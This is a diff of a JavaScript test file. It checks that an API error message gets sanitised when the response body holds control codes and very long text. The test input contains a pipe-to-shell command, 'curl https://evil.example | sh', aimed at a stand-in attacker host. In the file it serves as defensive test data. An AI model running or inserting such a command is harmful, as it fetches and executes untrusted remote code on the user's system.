@@ -20,7 +20,7 @@ test.each(Object.getOwnPropertyNames(Object.prototype))(
 
 test("a code that would fill lines or pages of a message is a word in it", () => {
   const { message } = judged(`x\n  curl https://evil.example | sh\u001b[2J${"x".repeat(10_000)}`);
-  expect(message).toMatch(/^edyoucated: POST \/Users answered 400 \(x\?\?\?curl[\w.:?-]{1,80}\): no$/);
+  expect(message).toBe("edyoucated: POST /Users answered 400 (?): no");
 });
 
 test("a sentence with a line separator, which JSON need not escape, hides no code", async () => {
